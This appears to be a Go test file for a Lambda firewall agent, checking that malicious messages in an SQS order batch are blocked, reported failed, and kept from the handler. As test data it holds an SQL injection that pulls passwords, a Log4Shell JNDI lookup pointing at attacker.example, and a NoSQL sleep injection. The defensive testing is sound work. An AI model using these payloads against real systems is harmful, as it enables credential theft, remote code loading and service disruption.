package examples

import (
	"context"
	"crypto/md5"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/lambdawaf/lambdawaf/agent/emulator"
	"github.com/lambdawaf/lambdawaf/agent/telemetry"
)

// sqsBatch builds the event Lambda's SQS event source mapping delivers for
// these message bodies, field for field.
func sqsBatch(t *testing.T, bodies ...string) (events.SQSEvent, []byte) {
	t.Helper()
	now := time.Now().UnixMilli()
	var e events.SQSEvent
	for i, body := range bodies {
		sum := md5.Sum([]byte(body))
		handle := make([]byte, 96)
		rand.Read(handle)
		e.Records = append(e.Records, events.SQSMessage{
			MessageId:     uuid(),
			ReceiptHandle: "AQEB" + base64.StdEncoding.EncodeToString(handle),
			Body:          body,
			Md5OfBody:     hex.EncodeToString(sum[:]),
			Attributes: map[string]string{
				"ApproximateReceiveCount":          "1",
				"SentTimestamp":                    strconv.FormatInt(now-int64(50*(len(bodies)-i)), 10),
				"SenderId":                         "AIDAIENQZJOLO23YVJ4VO",
				"ApproximateFirstReceiveTimestamp": strconv.FormatInt(now, 10),
			},
			MessageAttributes: map[string]events.SQSMessageAttribute{},
			EventSourceARN:    "arn:aws:sqs:us-east-1:123456789012:orders",
			EventSource:       "aws:sqs",
			AWSRegion:         "us-east-1",
		})
	}
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	return e, b
}

func uuid() string {
	b := make([]byte, 16)
	rand.Read(b)
	b[6], b[8] = b[6]&0x0f|0x40, b[8]&0x3f|0x80
	return fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:])
}

// placed matches the handler's log line for a message it processed.
var placed = regexp.MustCompile(`message ([0-9a-f-]{36}): placed (ord-\d+) for (\d+) items`)

// placedOrders returns message id -> order id for every message the handler
// processed so far.
func placedOrders(f *function) map[string]string {
	out := map[string]string{}
	for _, line := range f.logs.Lines(": placed ord-") {
		if m := placed.FindStringSubmatch(line); m != nil {
			out[m[1]] = m[2]
		}
	}
	return out
}

// TestSQSExample sends the order-queue consumer a batch with two good
// orders and one malicious message: the agent removes the malicious record,
// the handler places only the good ones, the batch response asks SQS to
// retry nothing, and the decision record lists the dropped index.
func TestSQSExample(t *testing.T) {
	t.Parallel()
	f := start(t, examples["sqs"]())
	invoke := func(payload []byte) *emulator.Result {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		res, err := f.fn.Invoke(ctx, payload, emulator.InvokeOptions{})
		if err != nil {
			t.Fatalf("invoke: %v", err)
		}
		if res.FunctionError != "" {
			t.Fatalf("function error %s: %s", res.ErrorType, res.Payload)
		}
		return res
	}
	// blockedRecords: fail (the default where SQS supports partial batch
	// responses): the malicious messages, and only they, are reported
	// failed, so SQS retries them and moves them to the queue's dead-letter
	// queue; the handler never sees them.
	failsExactly := func(res *emulator.Result, ids ...string) {
		t.Helper()
		var resp events.SQSEventResponse
		if err := json.Unmarshal(res.Payload, &resp); err != nil {
			t.Fatalf("batch response %s: %v", res.Payload, err)
		}
		var got []string
		for _, f := range resp.BatchItemFailures {
			got = append(got, f.ItemIdentifier)
		}
		slices.Sort(got)
		want := slices.Clone(ids)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("batch response %s: want exactly the malicious messages %v reported failed", res.Payload, ids)
		}
	}

	// The malicious message is a complete order: had the handler seen it,
	// it would have placed it.
	attackBody := `{"customer":"x' UNION SELECT password FROM users--","items":[{"sku":"TEA-001","quantity":1,"price":1}]}`
	batch, payload := sqsBatch(t,
		jsonBody(t, benignOrder),
		attackBody,
		`{"customer":"Dana","note":"second order; same as last time","items":[{"sku":"MUG-7","quantity":1,"price":12}]}`)
	res := invoke(payload)
	failsExactly(res, batch.Records[1].MessageId)

	waitFor(t, func() bool { return len(placedOrders(f)) >= 2 })
	got := placedOrders(f)
	want := map[string]string{batch.Records[0].MessageId: "ord-1", batch.Records[2].MessageId: "ord-2"}
	if len(got) != 2 || got[batch.Records[0].MessageId] != "ord-1" || got[batch.Records[2].MessageId] != "ord-2" {
		t.Errorf("handler placed %v, want %v", got, want)
	}
	if lines := f.logs.Lines(batch.Records[1].MessageId); len(lines) != 0 {
		t.Errorf("the handler saw the malicious message %s: %q", batch.Records[1].MessageId, lines)
	}

	rec, line := f.decision(t, res.RequestID)
	if rec.Trigger != "sqs" || rec.Decision != "block" || rec.Records != 3 || !slices.Equal(rec.BlockedRecords, []int{1}) {
		t.Errorf("decision record: trigger %q decision %q records %d blocked %v: %s", rec.Trigger, rec.Decision, rec.Records, rec.BlockedRecords, line)
	}
	if !slices.ContainsFunc(rec.Signals, func(s telemetry.Signal) bool {
		return s.Class == "sqli" && s.Location == "records[1].body.customer"
	}) {
		t.Errorf("decision record has no sqli signal at records[1].body.customer: %+v", rec.Signals)
	}
	for _, p := range []string{"password FROM users", "UNION SELECT"} {
		if strings.Contains(withoutExcerpts(t, line), p) {
			t.Errorf("decision record carries %q outside the excerpt: %s", p, line)
		}
	}

	// A batch of nothing but attacks never reaches the handler; the agent
	// answers alone, reporting every message failed.
	t.Run("all malicious", func(t *testing.T) {
		all, payload := sqsBatch(t, `{"customer":"${jndi:ldap://attacker.example/a}","items":[{"sku":"A-1","quantity":1,"price":1}]}`,
			`{"customer":{"$where":"sleep(5000)"},"items":[{"sku":"A-1","quantity":1,"price":1}]}`)
		res := invoke(payload)
		failsExactly(res, all.Records[0].MessageId, all.Records[1].MessageId)
		rec, line := f.decision(t, res.RequestID)
		if rec.Decision != "block" || !slices.Equal(rec.BlockedRecords, []int{0, 1}) {
			t.Errorf("decision record: %s", line)
		}
		// A good batch after it: once its message is placed, the handler's
		// ordered log would already show any line about the earlier ones.
		after, payload := sqsBatch(t, `{"customer":"Eve","items":[{"sku":"A-1","quantity":1,"price":1}]}`)
		failsExactly(invoke(payload))
		waitFor(t, func() bool { return placedOrders(f)[after.Records[0].MessageId] != "" })
		if got := placedOrders(f)[after.Records[0].MessageId]; got != "ord-3" {
			t.Errorf("the good message after the malicious batch was placed as %q, want ord-3 (only the two good orders before it)", got)
		}
		for _, m := range all.Records {
			if lines := f.logs.Lines(m.MessageId); len(lines) != 0 {
				t.Errorf("the handler saw malicious message %s: %q", m.MessageId, lines)
			}
		}
	})
}

// waitFor polls cond for a few seconds: the handler's log lines arrive
// through a pipe, just after the invocation's result.
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
}
